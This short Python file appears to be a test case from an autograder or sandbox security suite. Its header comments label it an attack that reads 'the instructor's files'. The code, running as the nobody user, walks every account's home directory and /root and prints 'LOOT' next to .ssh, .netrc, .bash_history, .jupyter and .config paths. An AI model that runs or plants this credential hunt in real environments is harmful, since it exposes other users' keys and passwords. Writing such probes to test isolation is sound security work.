# base: garbage
# The homes of all accounts are listed, and keys in them are looked for.
# class: reading
# gains: the instructor's files
# ends: graded
# safe_in_process: no

# %% last
import os
import pwd
from pathlib import Path

if os.getuid() == 65534:
    homes = {Path(entry.pw_dir) for entry in pwd.getpwall()} | {Path("/root"), Path("/home")}
    for home in sorted(homes - {Path("/"), Path("/bin"), Path("/dev"), Path("/usr/sbin")}):
        try:
            for path in home.glob(".*"):
                if path.name in (".ssh", ".netrc", ".bash_history", ".jupyter", ".config"):
                    print("LOOT", path)
        except OSError:
            pass
